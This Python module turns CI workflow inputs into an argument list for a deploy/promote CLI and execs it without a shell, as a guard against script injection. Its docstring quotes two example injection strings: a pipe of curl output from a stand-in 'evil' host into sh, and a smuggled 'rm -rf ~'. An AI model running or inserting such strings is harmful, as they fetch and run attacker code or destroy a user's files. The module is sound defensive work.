"""Turn workflow inputs into a flowportal command line, without a shell in between.

The deploy/promote workflows hand their inputs to this module through
environment variables (`env:` in the workflow), and it replaces itself with
`python -m flowportal.cli deploy|promote ...` built as an argument list. So an
input such as `prod; curl evil | sh` or `$(rm -rf ~)` reaches the CLI as the
literal text it is, and never meets a shell that could run it — the script
injection the seed SDK's `gh workflow run` call was open to.

    python -m flowportal.workflow_args deploy    # FLOWS, ENV, BRANCH, COMMIT, PACKAGE_VERSION, IMAGE
    python -m flowportal.workflow_args promote   # FLOWS, SRC, DST, BRANCH, FORCE
"""

from __future__ import annotations

import os
import shlex
import sys
from collections.abc import Callable, Mapping, Sequence

from portal_core.errors import PortalError
from portal_core.github import check_cli_value, decode_flows

USAGE = "usage: python -m flowportal.workflow_args deploy|promote"

#: Optional deploy settings: environment variable -> CLI option.
DEPLOY_OPTIONAL = (
    ("BRANCH", "--branch"),
    ("COMMIT", "--commit"),
    ("PACKAGE_VERSION", "--package-version"),
    ("IMAGE", "--image"),
)

_TRUE = {"true", "1", "yes"}
_FALSE = {"false", "0", "no", ""}


class WorkflowArgsError(PortalError):
    """The workflow's environment does not describe a valid command."""


def _option(flag: str, value: str, what: str) -> str:
    """`--flag=value` in one argument.

    The `=` form keeps a value glued to its option, so the CLI's parser can
    never take the value for the next option.
    """
    check_cli_value(what, value)
    return f"{flag}={value}"


def _required(environ: Mapping[str, str], name: str) -> str:
    value = environ.get(name, "")
    if not value.strip():
        raise WorkflowArgsError(f"{name} is not set: the workflow must pass it via env:")
    return value


def _flow_options(environ: Mapping[str, str]) -> list[str]:
    return [_option("--flow", name, "flow name") for name in decode_flows(environ.get("FLOWS", ""))]


def _deploy_argv(environ: Mapping[str, str]) -> list[str]:
    flows = _flow_options(environ)
    if not flows:
        raise WorkflowArgsError('FLOWS is empty: pass a JSON array of flow names, or ["all"]')
    args = ["deploy", *flows, _option("--env", _required(environ, "ENV"), "ENV")]
    for name, flag in DEPLOY_OPTIONAL:
        value = environ.get(name, "")
        if value.strip():
            args.append(_option(flag, value, name))
    return args


def _promote_argv(environ: Mapping[str, str]) -> list[str]:
    args = [
        "promote",
        _option("--src", _required(environ, "SRC"), "SRC"),
        _option("--dst", _required(environ, "DST"), "DST"),
        *_flow_options(environ),
    ]
    branch = environ.get("BRANCH", "")
    if branch.strip():
        args.append(_option("--branch", branch, "BRANCH"))
    force = environ.get("FORCE", "").strip().lower()
    if force not in _TRUE | _FALSE:
        raise WorkflowArgsError(f"FORCE must be true or false, got {environ.get('FORCE')!r}")
    if force in _TRUE:
        args.append("--force")
    return args


def build_argv(verb: str, environ: Mapping[str, str], python: str | None = None) -> list[str]:
    """The exact argument vector to exec for `verb`, from the workflow's environment.

    Pure apart from defaulting `python` to the running interpreter, so the whole
    mapping from inputs to command line is testable without running anything.
    """
    builders: dict[str, Callable[[Mapping[str, str]], list[str]]] = {
        "deploy": _deploy_argv,
        "promote": _promote_argv,
    }
    if verb not in builders:
        raise WorkflowArgsError(f"unknown verb {verb!r}; {USAGE}")
    return [python or sys.executable, "-m", "flowportal.cli", *builders[verb](environ)]


def main(
    argv: Sequence[str] | None = None,
    environ: Mapping[str, str] | None = None,
    execv: Callable[[str, list[str]], object] = os.execv,
) -> int:
    """Build the command and replace this process with it; returns only on error."""
    args = list(sys.argv[1:] if argv is None else argv)
    if len(args) != 1:
        print(USAGE, file=sys.stderr)
        return 2
    try:
        command = build_argv(args[0], os.environ if environ is None else environ)
    except PortalError as exc:
        print(f"flowportal.workflow_args: {exc}", file=sys.stderr)
        return 2
    # For the job log only; the command itself is the list, never this string.
    print("running:", shlex.join(command[1:]), flush=True)
    sys.stderr.flush()
    execv(command[0], command)
    return 0  # reached only when `execv` is a test double


if __name__ == "__main__":
    sys.exit(main())
